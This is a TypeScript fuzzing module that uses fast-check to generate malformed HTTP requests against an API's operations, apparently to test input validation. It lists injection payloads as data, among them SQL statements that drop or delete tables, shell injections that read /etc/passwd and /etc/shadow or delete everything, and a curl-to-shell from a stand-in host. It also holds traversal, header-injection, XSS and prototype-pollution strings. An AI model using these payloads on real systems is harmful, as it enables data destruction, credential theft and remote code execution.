// Malformed requests for one operation, as fast-check arbitraries: bad path parameters (SQL, shell,
// traversal, invalid percent-encoding and raw non-UTF-8 bytes, huge), wrong and extra query
// parameters, bodies with wrong types, missing and extra fields, nulls, huge and deeply nested values,
// invalid JSON and invalid UTF-8, wrong content types, broken and huge headers. Every body sent with
// a JSON content type is one the server's own schema refuses (see body-oracle.ts).
import fc from 'fast-check';
import type { Operation, Parameter } from './operations.js';

export interface FuzzRequest {
  /** `METHOD /template`: the operation attacked. */
  operation: string;
  method: string;
  /** The request target as sent: already encoded, may hold raw bytes 0x80-0xff. */
  target: string;
  headers: Record<string, string>;
  body: Buffer | null;
  /** What was done to it, for the report. */
  mutations: string[];
}

const SQL = ["' OR '1'='1", '1; DROP TABLE accounts;--', '" OR ""="', "1' UNION SELECT password_hash FROM accounts--", "'); DELETE FROM api_keys; --"];
const SHELL = ['$(reboot)', '`id`', '; rm -rf / ;', '| cat /etc/passwd', '&& curl evil.example | sh', '${IFS}cat${IFS}/etc/shadow'];
const TRAVERSAL = ['../../../../etc/passwd', '..', '.', '/proc/1/root', '....//....//etc'];
const ODD_SCALARS = [
  'null',
  'undefined',
  'true',
  '-1',
  '0',
  '1.5',
  '1e309',
  '99999999999999999999999',
  'NaN',
  'Infinity',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
];
const HOSTILE_STRINGS = [...SQL, ...SHELL, ...TRAVERSAL, ...ODD_SCALARS, '', ' ', '\u0000', '\u202e', '💥', '\ud800', 'a\r\nx-injected: 1', '<script>alert(1)</script>', '%s%s%s%n', '{{7*7}}'];

/** A path segment or query value as it goes on the wire: percent-encoded, broken encodings, or raw latin-1 bytes. */
const encodedText = (text: string): string => {
  try {
    return encodeURIComponent(text);
  } catch {
    return '%ED%A0%80';
  }
};
const rawLatin1 = fc.array(fc.integer({ min: 0x80, max: 0xff }), { minLength: 1, maxLength: 12 }).map((codes) => String.fromCharCode(...codes));
const brokenPercent = fc.constantFrom('%', '%Z', '%ZZ', '%00', '%C0%AF', '%FF%FE%FD', '%E0%A4%A', '%ED%A0%80', '%F4%90%80%80', '%25%32%65', '%2e%2e%2f%2e%2e%2f', '%0d%0aSet-Cookie:x=1');
const wireValue = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS).map(encodedText) },
  { weight: 2, arbitrary: brokenPercent },
  { weight: 2, arbitrary: rawLatin1 },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }).map(encodedText) },
  { weight: 1, arbitrary: fc.constantFrom(300, 401, 1000, 3000).map((n) => 'a'.repeat(n)) },
  { weight: 2, arbitrary: fc.integer().map(String) },
  { weight: 2, arbitrary: fc.double().map(String) },
);
/** An id of a plausible shape that no resource has. */
const missingId = fc
  .tuple(fc.constantFrom('sbx', 'snp', 'pip', 'run', 'evs', 'evt', 'alr', 'ntf', 'key', 'ses', 'dlv'), fc.stringMatching(/^[0-9a-hjkmnp-tv-z]{26}$/))
  .map(([prefix, rest]) => `${prefix}_${rest}`);
const pathValue = fc.oneof({ weight: 6, arbitrary: wireValue }, { weight: 2, arbitrary: missingId });

/** A JSON value of a type `schema` does not allow is likely among these; the oracle has the last word. */
const deepArray = fc.integer({ min: 50, max: 1500 }).map((depth) => JSON.parse('['.repeat(depth) + ']'.repeat(depth)) as unknown);
const deepObject = fc.integer({ min: 50, max: 1000 }).map((depth) => {
  let value: unknown = 1;
  for (let i = 0; i < depth; i++) value = { a: value };
  return value;
});
const jsonValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(null, true, false, 0, -1, 1.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, '', 'x', [], {}, [null], { '': null }) },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 1, arbitrary: fc.constantFrom(1_000, 70_000, 300_000).map((n) => 'x'.repeat(n)) },
  { weight: 1, arbitrary: deepArray },
  { weight: 1, arbitrary: deepObject },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.array(fc.constantFrom(...HOSTILE_STRINGS), { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.dictionary(fc.constantFrom(...HOSTILE_STRINGS, 'a', 'b'), fc.constantFrom(null, 1, 'x', {}), { maxKeys: 4 }) },
);

/** A body that fits the schema's shape roughly: the start point the mutations break. */
function skeleton(schema: Record<string, unknown>): unknown {
  if (Array.isArray(schema.enum)) return schema.enum[0];
  if (schema.const !== undefined) return schema.const;
  const anyOf = (schema.anyOf ?? schema.oneOf) as Record<string, unknown>[] | undefined;
  if (anyOf?.length) return skeleton(anyOf[0]);
  switch (Array.isArray(schema.type) ? schema.type[0] : schema.type) {
    case 'object': {
      const properties = (schema.properties ?? {}) as Record<string, Record<string, unknown>>;
      return Object.fromEntries(Object.entries(properties).map(([name, property]) => [name, skeleton(property)]));
    }
    case 'array':
      return schema.items && (schema.minItems as number) > 0 ? [skeleton(schema.items as Record<string, unknown>)] : [];
    case 'string':
      return 'x'.repeat(Math.max(1, (schema.minLength as number) ?? 1));
    case 'integer':
    case 'number':
      return (schema.minimum as number) ?? 1;
    case 'boolean':
      return true;
    default:
      return null;
  }
}

type Mutation = (body: Record<string, unknown>) => [unknown, string];

function bodyMutation(schema: Record<string, unknown>): fc.Arbitrary<Mutation> {
  const properties = Object.keys((schema.properties ?? {}) as object);
  const required = (schema.required ?? []) as string[];
  const field = properties.length ? fc.constantFrom(...properties) : fc.constant('x');
  const choices: fc.Arbitrary<Mutation>[] = [
    fc.tuple(field, jsonValue).map(([name, value]): Mutation => (body) => [{ ...body, [name]: value }, `body.${name} = ${describe(value)}`]),
    fc.tuple(fc.constantFrom(...HOSTILE_STRINGS, 'admin', 'account_id', 'id', 'plan'), jsonValue).map(([name, value]): Mutation => (body) => [{ ...body, [name]: value }, `extra body.${name}`]),
    fc.constant<Mutation>((body) => [Object.fromEntries(Object.entries(body).map(([name]) => [name, null])), 'every field null']),
    jsonValue.map((value): Mutation => () => [value, `body is ${describe(value)}`]),
  ];
  if (required.length) choices.push(fc.constantFrom(...required).map((name): Mutation => (body) => [Object.fromEntries(Object.entries(body).filter(([key]) => key !== name)), `without body.${name}`]));
  return fc.oneof(...choices);
}

function describe(value: unknown): string {
  let text: string;
  try {
    text = JSON.stringify(value) ?? String(value);
  } catch {
    text = '(too deep to print)';
  }
  return text.length > 60 ? `${text.slice(0, 60)}… (${text.length} chars)` : text;
}

/** Raw bytes that are not a JSON document, or not one in UTF-8. */
const rawBody = fc.oneof(
  fc
    .constantFrom('{', '{"a":', "{'a':1}", '{"a":1,}', 'nul', 'NaN', '[1,2', '{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"x":1}}}', '\u0000', '"\\ud800"', '{"a":1}{"b":2}')
    .map((text) => Buffer.from(text)),
  fc.uint8Array({ minLength: 1, maxLength: 200 }).map((bytes) => Buffer.from(bytes)),
  fc.constantFrom(0xff, 0xc0, 0xed, 0xf8).map((byte) => Buffer.concat([Buffer.from('{"name":"'), Buffer.from([byte, 0x80, 0xbf]), Buffer.from('"}')])),
  fc.constantFrom(1024 * 1024 + 10, 2 * 1024 * 1024).map((size) => Buffer.alloc(size, 0x7b)),
  fc.integer({ min: 1000, max: 200_000 }).map((depth) => Buffer.from('['.repeat(depth) + ']'.repeat(depth))),
);

const CONTENT_TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/octet-stream',
  'application/xml',
  ';;;',
  'application/json; charset=utf-16',
  'APPLICATION/JSON',
  'application/json;;',
  'application/vnd.api+json',
  'application/json, text/plain',
  '*/*',
];

export interface RequestContext {
  apiKey: string;
  /**
   * Ids of resources that exist, by the path before the parameter (`/v1/pipelines/` → a pipeline id).
   * Used only where a request cannot change anything: GETs, and JSON bodies the schema refuses.
   */
  existing?: Record<string, string>;
  /** Refuses bodies the server would accept (see body-oracle.ts). */
  accepts(operation: Operation, contentType: string | undefined, body: Buffer | null): boolean;
}

function fillPath(template: string, values: Record<string, string>): string {
  return template.replace(/\{([^}]+)\}/g, (_match, name: string) => values[name]);
}

function queryPart(parameters: Parameter[]) {
  const one = (parameter: Parameter) =>
    fc.oneof(
      wireValue.map((value) => [`${encodedText(parameter.name)}=${value}`]),
      fc.array(wireValue, { minLength: 2, maxLength: 4 }).map((values) => values.map((value) => `${encodedText(parameter.name)}=${value}`)),
      fc.constant([encodedText(parameter.name)]),
    );
  const declared = parameters.map((parameter) => fc.option(one(parameter), { nil: undefined, freq: 2 }));
  const extra = fc.array(fc.tuple(fc.constantFrom(...HOSTILE_STRINGS, 'admin', 'account_id', '__proto__[x]', 'a[b][c]'), wireValue), { maxLength: 2 });
  return fc.tuple(fc.tuple(...declared), extra, fc.boolean()).map(([values, extras, garbage]) => {
    const pairs = values.filter((value): value is string[] => value !== undefined).flat();
    pairs.push(...extras.map(([name, value]) => `${encodedText(name)}=${value}`));
    if (garbage) pairs.push('&&==&%ZZ=%');
    return pairs.length ? `?${pairs.join('&')}` : '';
  });
}

function headersPart(apiKey: string) {
  const authorization = fc.oneof(
    { weight: 16, arbitrary: fc.constant<string | undefined>(`Bearer ${apiKey}`) },
    { weight: 1, arbitrary: fc.constant<string | undefined>(`bearer   ${apiKey}  `) },
    { weight: 1, arbitrary: fc.constant<string | undefined>(undefined) },
    {
      weight: 2,
      arbitrary: fc.constantFrom<string | undefined>(
        'Bearer',
        'Bearer ',
        'Basic dXNlcjpwYXNz',
        `Bearer ${apiKey}x`,
        `Bearer ${apiKey} ${apiKey}`,
        "Bearer svc_sk_' OR 1=1--",
        `Bearer svc_sk_${'A'.repeat(43)}`,
        'Bearer svc_ds_x',
      ),
    },
    { weight: 1, arbitrary: fc.integer({ min: 1000, max: 8000 }).map<string | undefined>((n) => `Bearer svc_sk_${'a'.repeat(n)}`) },
  );
  const extra = fc.array(
    fc.tuple(
      fc.constantFrom('x-forwarded-for', 'x-request-id', 'accept', 'accept-encoding', 'origin', 'cookie', 'x-ratelimit-remaining', 'x-paddock-account', 'if-none-match', 'range', 'x-custom'),
      fc.oneof(
        fc.constantFrom('127.0.0.1, 10.0.0.1', '*/*', 'gzip, br', '../../', "' OR 1=1", 'bytes=0-999999999999', 'null'),
        fc.integer({ min: 100, max: 6000 }).map((n) => 'v'.repeat(n)),
      ),
    ),
    { maxLength: 2 },
  );
  return fc.tuple(authorization, extra).map(([auth, extras]) => {
    const headers: Record<string, string> = {};
    for (const [name, value] of extras) headers[name] = value;
    if (auth !== undefined) headers.authorization = auth;
    return headers;
  });
}

function bodyPart(operation: Operation) {
  const structured = operation.bodySchema
    ? fc.array(bodyMutation(operation.bodySchema), { minLength: 1, maxLength: 3 }).map((mutations) => {
        let body: unknown = skeleton(operation.bodySchema!);
        const labels: string[] = [];
        for (const mutate of mutations) {
          const [next, label] = mutate(body && typeof body === 'object' && !Array.isArray(body) ? (body as Record<string, unknown>) : {});
          body = next;
          labels.push(label);
        }
        return { body: Buffer.from(JSON.stringify(body) ?? 'null'), labels };
      })
    : fc.constant({ body: Buffer.from('{"unexpected":"body"}'), labels: ['a body on a route that takes none'] });
  const withBadBytes = structured.map(({ body, labels }) => {
    const text = body.toString('latin1');
    const at = text.indexOf('"x');
    if (at < 0) return { body, labels };
    return { body: Buffer.concat([body.subarray(0, at + 1), Buffer.from([0xff, 0xfe, 0xc3]), body.subarray(at + 1)]), labels: [...labels, 'invalid UTF-8 inside a string'] };
  });
  // A body as valid as the skeleton gets, but for one NUL in a string: refused only by the NUL rule.
  const withNul = fc.constant(operation.bodySchema ? skeleton(operation.bodySchema) : null).map((body) => {
    const text = JSON.stringify(body) ?? 'null';
    const at = text.indexOf('"x');
    return { body: Buffer.from(at < 0 ? text : `${text.slice(0, at + 1)}\\u0000${text.slice(at + 1)}`), labels: ['the skeleton body with a NUL in a string'] };
  });
  return fc.oneof(
    { weight: 6, arbitrary: structured },
    { weight: 1, arbitrary: withBadBytes },
    { weight: 1, arbitrary: withNul },
    { weight: 2, arbitrary: rawBody.map((body) => ({ body, labels: [`raw body ${describe(body.subarray(0, 40).toString('latin1'))} (${body.length} bytes)`] })) },
    { weight: 1, arbitrary: fc.constant({ body: null as Buffer | null, labels: ['no body'] }) },
  );
}

/** The existing id a parameter may take: the one whose path prefix ends right before it. */
function existingFor(operation: Operation, name: string, existing: Record<string, string>): string | undefined {
  const prefix = operation.path.slice(0, operation.path.indexOf(`{${name}}`));
  return existing[prefix];
}

export function malformedRequest(operation: Operation, context: RequestContext): fc.Arbitrary<FuzzRequest> {
  const pathValues = fc.tuple(
    ...operation.pathParams.map((parameter) => {
      const id = existingFor(operation, parameter.name, context.existing ?? {});
      return id === undefined
        ? pathValue.map((value) => ({ value, existing: null as string | null }))
        : fc.oneof(
            pathValue.map((value) => ({ value, existing: null as string | null })),
            pathValue.map((value) => ({ value, existing: id as string | null })),
          );
    }),
  );
  const contentType = fc.oneof(
    { weight: 8, arbitrary: fc.constant<string | undefined>('application/json') },
    { weight: 1, arbitrary: fc.constant<string | undefined>(undefined) },
    { weight: 3, arbitrary: fc.constantFrom<string | undefined>(...CONTENT_TYPES) },
  );
  const bodyless = operation.method === 'GET' || operation.method === 'DELETE';
  const body = bodyless ? fc.oneof({ weight: 4, arbitrary: fc.constant({ body: null as Buffer | null, labels: [] as string[] }) }, { weight: 1, arbitrary: bodyPart(operation) }) : bodyPart(operation);
  return fc
    .record({ pathValues, query: queryPart(operation.query), headers: headersPart(context.apiKey), contentType, body })
    .map(({ pathValues: values, query, headers, contentType: type, body: { body: bytes, labels } }) => {
      const allHeaders = { ...headers };
      if (bytes !== null && type !== undefined) allHeaders['content-type'] = type;
      // An existing resource only where nothing can change: a GET, or a JSON body (refused by the filter below).
      const harmless = operation.method === 'GET' || (operation.bodySchema !== null && bytes !== null && type?.split(';')[0].trim().toLowerCase() === 'application/json');
      const named = Object.fromEntries(
        operation.pathParams.map((parameter, index) => [parameter.name, values[index].existing !== null && harmless ? encodeURIComponent(values[index].existing!) : values[index].value]),
      );
      const usedExisting = operation.pathParams.some((_parameter, index) => values[index].existing !== null && harmless);
      return {
        operation: `${operation.method} ${operation.path}`,
        method: operation.method,
        target: fillPath(operation.path, named) + query,
        headers: allHeaders,
        body: bytes,
        mutations: [...labels, ...(bytes !== null ? [`content-type ${type ?? '(none)'}`] : []), ...(usedExisting ? ['an existing resource'] : [])],
      };
    })
    .filter((request) => !context.accepts(operation, request.headers['content-type'], request.body));
}

export function anyMalformedRequest(operations: Operation[], context: RequestContext): fc.Arbitrary<FuzzRequest> {
  return fc.constantFrom(...operations).chain((operation) => malformedRequest(operation, context));
}
